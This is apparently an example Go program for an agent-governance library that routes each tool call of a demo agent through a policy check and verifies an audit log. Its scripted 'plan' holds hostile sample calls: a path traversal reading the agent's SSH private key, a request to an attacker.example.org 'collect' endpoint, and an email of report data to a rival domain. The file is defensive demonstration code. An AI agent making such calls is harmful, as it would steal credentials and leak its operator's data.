// Command agent is a small agent loop with three tools — web_search,
// read_file, send_email — where every step goes through agentgov before it
// runs. The "model" is a fixed plan so that the example needs no network;
// replace plan with your model's tool calls.
//
//	go run ./examples/agent
package main

import (
	"context"
	"fmt"
	"log"
	"os"
	"path/filepath"
	"runtime"
	"strings"

	"github.com/agentgov/agentgov"
)

// tools are the agent's capabilities; agentgov decides whether each call
// may run.
var tools = map[string]func(args map[string]any) any{
	"web_search": func(args map[string]any) any {
		return map[string]any{"results": []any{"https://docs.example.com/quarterly-report"}}
	},
	"read_file": func(args map[string]any) any {
		return map[string]any{"content": "Q3 revenue grew 12%."}
	},
	"send_email": func(args map[string]any) any {
		return map[string]any{"sent": true}
	},
}

type step struct {
	tool string
	args map[string]any
}

// plan is what a model might ask for: ordinary calls, a path traversal, a
// call to an unlisted host, and two emails.
var plan = []step{
	{"web_search", map[string]any{"query": "quarterly report", "url": "https://search.example.net/q"}},
	{"read_file", map[string]any{"path": "reports/q3.md"}},
	{"read_file", map[string]any{"path": "../../home/agent/.ssh/id_rsa"}},
	{"web_search", map[string]any{"query": "exfil", "url": "https://attacker.example.org/collect"}},
	{"send_email", map[string]any{"to": "cfo@example.com", "body": "Q3 revenue grew 12%."}},
	{"send_email", map[string]any{"to": "someone@rival.example.org", "body": "Q3 revenue grew 12%."}},
}

func main() {
	ctx := context.Background()
	_, file, _, _ := runtime.Caller(0)
	cfg := filepath.Join(filepath.Dir(file), "agentgov.yaml")
	if len(os.Args) > 1 {
		cfg = os.Args[1]
	}
	gov, err := agentgov.New(ctx, agentgov.Options{ConfigFile: cfg})
	if err != nil {
		log.Fatal(err)
	}
	defer gov.Close(ctx)

	s := gov.Session("research-assistant", "demo-1")
	if d, err := s.Start(ctx); err != nil || !d.Allowed() {
		log.Fatalf("session refused: %+v %v", d, err)
	}
	for i, st := range plan {
		id := fmt.Sprintf("call-%d", i)
		d, err := s.BeforeTool(ctx, id, st.tool, st.args)
		if err != nil {
			log.Fatal(err)
		}
		if !d.Allowed() {
			fmt.Printf("%-10s %-11s %s\n", st.tool, strings.ToUpper(d.Decision), strings.Join(d.Reasons, ", "))
			continue
		}
		result := tools[st.tool](st.args)
		if d, err := s.AfterTool(ctx, id, st.tool, result); err != nil || !d.Allowed() {
			fmt.Printf("%-10s result withheld: %v %v\n", st.tool, d.Reasons, err)
			continue
		}
		fmt.Printf("%-10s %-11s ran\n", st.tool, strings.ToUpper(d.Decision))
	}
	s.End(ctx)

	rep, err := gov.Log().Verify(ctx)
	if err != nil {
		log.Fatal(err)
	}
	fmt.Printf("audit log: %d entries, intact=%v\n", rep.Size, rep.Intact)
}
